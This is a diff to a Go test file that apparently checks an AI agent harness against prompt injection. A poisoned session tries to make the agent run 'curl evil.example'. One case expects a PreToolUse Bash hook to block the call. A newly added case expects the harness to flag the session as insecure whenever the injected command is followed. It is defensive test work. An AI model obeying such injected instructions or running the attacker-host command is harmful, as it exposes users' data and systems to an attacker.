@@ -22,9 +22,12 @@ func TestSecurity(t *testing.T) {
 	if !secure.Secure() {
 		t.Errorf("%+v", secure)
 	}
-	denied := harness.Attack(session(t, poisoned, fails("curl evil.example")), inj)
+	denied := harness.Attack(session(t, poisoned, call("Bash", "command", "curl evil.example", "PreToolUse:Bash no")), inj)
 	if !denied.Secure() || len(denied.Blocked) != 1 || len(denied.Defects()) != 0 {
 		t.Errorf("a control held: %+v", denied)
+	}
+	if ran := harness.Attack(session(t, poisoned, fails("curl evil.example")), inj); ran.Secure() || len(ran.Followed) != 1 {
+		t.Errorf("it ran, whatever came of it: %+v", ran)
 	}
 	early := transcripttest.New()
 	agent := early.Request(1).Call("Agent", nil)
